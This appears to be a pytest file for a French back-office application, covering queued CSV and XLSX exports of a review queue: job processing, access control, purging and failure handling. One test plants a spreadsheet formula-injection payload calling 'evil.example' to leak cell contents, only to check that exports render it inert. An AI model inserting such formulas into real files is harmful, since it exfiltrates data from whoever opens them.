"""Queue exports past EXPORT_STREAM_MAX_ROWS (issue 19, item 3): asked for on the Exports
page, written by a job (in-process here; through Redis and the worker below), shown with
its progress, e-mailed, downloadable by its requester only, purged after its retention."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
from sqlalchemy import select

from backoffice.db import db, utcnow
from backoffice.models import AuditEvent, CandidatureStep, Export, OutboxMail
from tests.factories import CandidatureFactory, ProductFactory, UserFactory
from tests.helpers import ROLES, csrf_token, login, logout
from tests.test_jobs import redis_app  # noqa: F401 - the Redis tier fixture

THRESHOLD = 5


@pytest.fixture
def small_threshold(app, tmp_path, monkeypatch):
    monkeypatch.setitem(app.config, "EXPORT_STREAM_MAX_ROWS", THRESHOLD)
    monkeypatch.setitem(app.config, "EXPORT_DIR", str(tmp_path / "exports"))
    return tmp_path / "exports"


def _queue(desk, n: int, demarche: str = "dmn_nom_de_marque", **product) -> list[str]:
    references = []
    for _ in range(n):
        candidature = CandidatureFactory(
            demarche_code=demarche,
            product=ProductFactory(organisation=desk.organisation, **product))
        references.append(candidature.reference)
    db.commit()
    return references


def _ask(desk, fmt: str, **filters: str):
    data = {"format": fmt, **filters, "csrf_token": csrf_token(desk.client, "/instruction/exports")}
    return desk.client.post("/instruction/exports", data=data)


def _csv(body: bytes) -> list[list[str]]:
    text = body.decode("utf-8").lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def _mine(desk) -> list[Export]:
    db.expire_all()
    return db.scalars(select(Export).where(Export.requester_id == desk.me.id)
                      .order_by(Export.id)).all()


def test_under_the_threshold_the_csv_is_streamed_as_before(desk, small_threshold) -> None:
    references = _queue(desk, THRESHOLD)
    response = desk.client.get("/instruction/file.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert sorted(r[0] for r in _csv(response.data)[1:]) == sorted(references)
    assert _mine(desk) == []


def test_a_large_queue_is_exported_by_a_job_end_to_end(desk, small_threshold) -> None:
    wanted = _queue(desk, THRESHOLD + 2)
    other = _queue(desk, 1, demarche="dmn_pecan")  # filtered out
    # the streamed CSV sends the vérificateur to the Exports page, filters kept
    response = desk.client.get("/instruction/file.csv?demarche=dmn_nom_de_marque")
    assert response.status_code == 302
    assert response.headers["Location"] == \
        "/instruction/exports?format=csv&demarche=dmn_nom_de_marque"
    page = desk.client.get(response.headers["Location"]).get_data(as_text=True)
    assert "plus de 5 lignes" in page and "Préparer l'export" in page
    assert 'name="demarche" value="dmn_nom_de_marque"' in page
    assert "Filtres : démarche Nom de marque." in page

    response = _ask(desk, "csv", demarche="dmn_nom_de_marque")
    assert response.status_code == 302
    assert response.headers["Location"] == "/instruction/exports"
    page = desk.client.get("/instruction/exports").get_data(as_text=True)
    # embedded mode: the job ran at the request's commit, and the next page says so
    assert "Export demandé : il est préparé en tâche de fond." in page
    assert "Votre export de la file est prêt" in page
    (export,) = _mine(desk)
    assert export.status == "pret"  # embedded mode: the job ran after the commit
    assert (export.rows_total, export.rows_written) == (len(wanted), len(wanted))
    assert export.filters == {"demarche": "dmn_nom_de_marque"}
    assert export.expires_at > utcnow() + timedelta(hours=23)

    page = desk.client.get("/instruction/exports").get_data(as_text=True)
    row = page.split(f'data-export="{export.id}"')[1].split("</tr>")[0]
    assert "Prêt" in row and "7 / 7" in row
    link = re.search(r'href="(/instruction/exports/\d+/fichier)"', row).group(1)

    response = desk.client.get(link)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = _csv(response.data)
    assert rows[0][0] == "Référence" and len(rows[0]) == 12
    assert sorted(r[0] for r in rows[1:]) == sorted(wanted) and other[0] not in response.text
    assert {r[3] for r in rows[1:]} == {"Nom de marque"}  # a label, never a code

    downloads = db.scalars(select(AuditEvent).where(
        AuditEvent.action == "export.telechargement")).all()
    assert [(e.actor_id, e.target_type, e.target_id) for e in downloads] == \
        [(desk.me.id, "export", str(export.id))]
    assert db.scalar(select(AuditEvent.id).where(AuditEvent.action == "export.demande"))
    mail = db.scalar(select(OutboxMail).where(OutboxMail.recipient == desk.me.email))
    assert mail is not None and "est prêt" in mail.subject
    assert "/instruction/exports" in mail.body and "7 ligne(s)" in mail.body


def test_a_spreadsheet_is_written_with_inert_cells(desk, small_threshold) -> None:
    from openpyxl import load_workbook

    payload = '=HYPERLINK("https://evil.example/?x="&A2;"Ouvrir")'
    references = _queue(desk, 2, name=payload)
    candidature = db.scalar(select(CandidatureStep).limit(1))  # a deadline passed: -3 days
    candidature.due_at = utcnow() - timedelta(days=3, hours=1)
    db.commit()
    assert _ask(desk, "xlsx").status_code == 302
    (export,) = _mine(desk)
    assert export.status == "pret" and export.format == "xlsx"
    response = desk.client.get(f"/instruction/exports/{export.id}/fichier")
    assert response.status_code == 200
    assert response.mimetype == \
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(response.data), read_only=True).active
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert rows[0][0] == "Référence"
    assert sorted(r[0] for r in rows[1:]) == sorted(references)
    assert all(r[1].startswith("'" + payload) for r in rows[1:])
    days = [r[8] for r in rows[1:] if r[8] is not None]
    assert days and all(isinstance(d, int) for d in days)  # numbers stay numbers


@pytest.mark.parametrize("rows", [4, 7, 0])
def test_a_spreadsheet_goes_on_in_a_new_sheet_past_the_row_limit(desk, small_threshold,
                                                                   monkeypatch, rows) -> None:
    """A sheet holds 1,048,576 rows at most (here 4: a header and 3 rows); the rows past it
    go on in « File (2) », headed again, none lost; an empty queue gives the header alone."""
    from openpyxl import load_workbook

    from backoffice.queues import export as writer

    monkeypatch.setattr(writer, "XLSX_SHEET_ROWS", 4)
    references = _queue(desk, rows)
    assert _ask(desk, "xlsx").status_code == 302
    (export,) = _mine(desk)
    assert export.status == "pret" and export.rows_written == rows
    response = desk.client.get(f"/instruction/exports/{export.id}/fichier")
    book = load_workbook(io.BytesIO(response.data), read_only=True)
    sheets = {name: [list(r) for r in book[name].iter_rows(values_only=True)]
              for name in book.sheetnames}
    expected = ["File", "File (2)", "File (3)"][:max(1, -(-rows // 3))]
    assert list(sheets) == expected
    assert all(len(body) <= 4 and body[0][0] == "Référence" for body in sheets.values())
    found = [r[0] for body in sheets.values() for r in body[1:]]
    assert sorted(found) == sorted(references)


def test_only_the_requester_downloads(desk, small_threshold) -> None:
    _queue(desk, 1)
    _ask(desk, "csv")
    (export,) = _mine(desk)
    path = f"/instruction/exports/{export.id}/fichier"
    assert desk.client.get(path).status_code == 200
    logout(desk.client)
    # a colleague of the same team: as if it did not exist; and it is not on their page
    login(desk.client, desk.colleague)
    assert desk.client.get(path).status_code == 404
    assert path not in desk.client.get("/instruction/exports").get_data(as_text=True)
    assert desk.client.get("/instruction/exports/999999/fichier").status_code == 404
    logout(desk.client)
    for role in (r for r in ROLES if r != "verificateur"):
        login(desk.client, UserFactory(roles=[role]))
        assert desk.client.get(path).status_code == 403, role
        assert desk.client.get("/instruction/exports").status_code == 403, role
        logout(desk.client)
    assert desk.client.get(path).status_code == 302  # anonymous: the login page
    assert db.scalar(select(AuditEvent.id).where(
        AuditEvent.action == "export.telechargement", AuditEvent.actor_id != desk.me.id)) \
        is None


def test_expired_exports_are_purged(desk, small_threshold) -> None:
    from jobs.exports import purger

    _queue(desk, 1)
    _ask(desk, "csv")
    _ask(desk, "xlsx")
    old, recent = _mine(desk)
    old_file = small_threshold / old.file_key
    assert old_file.is_file()
    old.expires_at = utcnow() - timedelta(minutes=1)
    db.commit()
    assert purger() == 1
    old, recent = _mine(desk)
    assert old.status == "expire" and old.file_key is None and not old_file.exists()
    assert recent.status == "pret" and (small_threshold / recent.file_key).is_file()
    assert desk.client.get(f"/instruction/exports/{old.id}/fichier").status_code == 410
    page = desk.client.get("/instruction/exports").get_data(as_text=True)
    assert "Expiré" in page.split(f'data-export="{old.id}"')[1].split("</tr>")[0]
    assert purger() == 0  # safe to run again


def test_bad_requests_get_a_french_message(desk, small_threshold) -> None:
    response = _ask(desk, "pdf")
    assert response.status_code == 302
    page = desk.client.get("/instruction/exports").get_data(as_text=True)
    assert "Choisissez le format" in page
    _ask(desk, "csv", demarche="sons_sas")  # not the team's parcours
    assert "pas celle de vos équipes" in desk.client.get("/instruction/exports").get_data(
        as_text=True)
    assert _mine(desk) == []
    assert desk.client.post("/instruction/exports", data={"format": "csv"}).status_code == 400


def test_the_job_runs_once(desk, small_threshold) -> None:
    from jobs.exports import produire

    _queue(desk, 1)
    _ask(desk, "csv")
    (export,) = _mine(desk)
    key = export.file_key
    assert produire(export.id) == "pret"  # already done: nothing rewritten
    (export,) = _mine(desk)
    assert export.file_key == key


def test_a_failed_job_says_so_and_leaves_no_partial_file(app, desk, small_threshold,
                                                          monkeypatch) -> None:
    from backoffice.queues import export as writer
    from jobs.exports import produire

    def broken(rows, out, progress):
        out.write(b"half a file")
        raise OSError("disque plein")

    _queue(desk, 1)
    monkeypatch.setitem(writer.WRITERS, "csv", broken)
    monkeypatch.setitem(app.config, "JOBS_RAISE", False)  # as in production: logged, shown
    assert _ask(desk, "csv").status_code == 302
    (export,) = _mine(desk)
    assert export.status == "echec" and "disque plein" in export.error
    assert export.file_key is None and list(small_threshold.iterdir()) == []
    assert produire(export.id) == "echec"  # not run again
    page = desk.client.get("/instruction/exports").get_data(as_text=True)
    assert "Une tâche de fond a échoué" in page
    assert "En échec : demandez-en un nouveau" in page
    assert desk.client.get(f"/instruction/exports/{export.id}/fichier").status_code == 410


def test_the_queue_page_offers_both_exports(desk) -> None:
    page = desk.client.get("/instruction/file?demarche=dmn_pecan").get_data(as_text=True)
    assert "/instruction/file.csv?demarche=dmn_pecan" in page
    assert "/instruction/exports?format=xlsx&amp;demarche=dmn_pecan" in page



@pytest.mark.redis
def test_the_export_job_goes_through_redis_to_the_worker(redis_app) -> None:  # noqa: F811
    """Production's path: the request queues the job (outbox, then Redis); the page says
    it waits; the worker process writes the file; the page then offers it."""
    from tests.conftest import IsolatedClient
    from tests.factories import TeamFactory
    from tests.test_jobs import _run_worker

    redis_app.config["EXPORT_STREAM_MAX_ROWS"] = 1
    redis_app.test_client_class = IsolatedClient  # requests apart from the test's context
    client = redis_app.test_client()
    with redis_app.app_context():
        me = UserFactory(roles=["verificateur"], teams=[TeamFactory(parcours="dmn")])
        references = sorted(CandidatureFactory().reference for _ in range(3))
        db.commit()
        login(client, me)
        assert client.get("/instruction/file.csv").status_code == 302  # over the limit
        response = client.post("/instruction/exports", data={
            "format": "csv", "csrf_token": csrf_token(client, "/instruction/exports")})
        assert response.status_code == 302
        page = client.get("/instruction/exports").get_data(as_text=True)
        assert "En attente" in page and "/fichier" not in page
        assert "Vous serez prévenu par e-mail" in page
        db.remove()
    worker = _run_worker(redis_app)
    assert worker.returncode == 0, worker.stderr
    with redis_app.app_context():
        export = db.scalar(select(Export))
        assert export.status == "pret", (export.error, worker.stderr)
        assert (export.rows_total, export.rows_written) == (3, 3)
        db.remove()  # let go of the database (SQLite: the download writes its audit event)
        # the requester's next workspace page says so, once
        home = client.get("/instruction/").get_data(as_text=True)
        assert "Votre export de la file est prêt" in home
        assert "Votre export" not in client.get("/instruction/").get_data(as_text=True)
        page = client.get("/instruction/exports").get_data(as_text=True)
        assert "Prêt" in page and "3 / 3" in page
        response = client.get(f"/instruction/exports/{export.id}/fichier")
        assert response.status_code == 200
        assert sorted(r[0] for r in _csv(response.data)[1:]) == references
        db.remove()


def test_the_exports_page_runs_the_same_queries_at_1_and_20_exports(desk) -> None:
    from tests.reviewer.test_queue import count_queries

    def add(n: int) -> None:
        for _ in range(n):
            db.add(Export(requester_id=desk.me.id, format="csv", status="pret",
                          file_key="x.csv", rows_total=3, rows_written=3,
                          expires_at=utcnow() + timedelta(hours=1)))
        db.commit()

    add(1)
    with count_queries() as few:
        assert desk.client.get("/instruction/exports").status_code == 200
    add(24)
    with count_queries() as many:
        page = desk.client.get("/instruction/exports").get_data(as_text=True)
    assert page.count("data-export=") == 20  # the latest 20
    assert len(many) == len(few), "\n".join(many)
